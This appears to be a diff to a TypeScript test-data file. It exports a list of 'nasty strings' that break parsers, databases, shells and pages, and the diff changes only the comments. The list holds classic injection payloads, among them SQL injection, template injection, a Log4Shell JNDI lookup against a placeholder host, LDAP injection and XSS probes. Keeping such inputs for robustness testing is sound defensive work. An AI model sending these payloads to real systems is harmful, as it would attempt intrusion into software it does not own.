@@ -1,9 +1,9 @@
 /**
- * Texts that have broken parsers, databases, shells, terminals and pages elsewhere; our own list, after
- * the idea of the Big List of Naughty Strings. All of them are well-formed Unicode.
+ * Texts that are known to break parsers, databases, shells, terminals and pages. The list follows the idea of the Big
+ * List of Naughty Strings. All texts are well-formed Unicode.
  */
 export const nastyStrings: readonly string[] = [
-  // Words that languages and stores read as something else
+  // Words with a special meaning in languages and databases
   'undefined',
   'null',
   'NULL',
@@ -25,7 +25,7 @@ export const nastyStrings: readonly string[] = [
   'Root',
   'me',
   'anonymous',
-  // Numbers that are not what they seem
+  // Unusual numbers
   '0',
   '-1',
   '1e400',
@@ -37,7 +37,7 @@ export const nastyStrings: readonly string[] = [
   '9223372036854775808',
   '\u0661\u0662\u0663',
   '\uff11\uff12',
-  // Spaces that are hard to see
+  // Unusual spaces
   ' ',
   '\t',
   '\u00a0',
@@ -59,7 +59,7 @@ export const nastyStrings: readonly string[] = [
   '\u001b[2J\u001b[31m',
   '\u009b31m',
   '\b\b\b',
-  // Unicode that grows, shrinks, turns around or falls apart
+  // Unicode that changes length by case or normalisation, or changes direction
   'İstanbul',
   'ß',
   'ﬃ',
@@ -81,7 +81,7 @@ export const nastyStrings: readonly string[] = [
   'مرحبا',
   'ａｄａ@example.com',
   'ada@exa\u043cple.com',
-  // What databases, shells, files and templates act on
+  // Syntax of databases, shells, paths and templates
   "' or '1'='1",
   "'; drop table users; --",
   '" or ""="',
@@ -101,14 +101,14 @@ export const nastyStrings: readonly string[] = [
   '/dev/null',
   'C:\\',
   '{{7*7}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is intended
   '${7*7}',
   '#{7*7}',
   '<%= 7 %>',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is intended
   '${jndi:ldap://x.example/a}',
   '*)(uid=*',
-  // What pages, mails and GraphQL act on
+  // Syntax of pages, mails and GraphQL
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   'javascript:alert(1)',
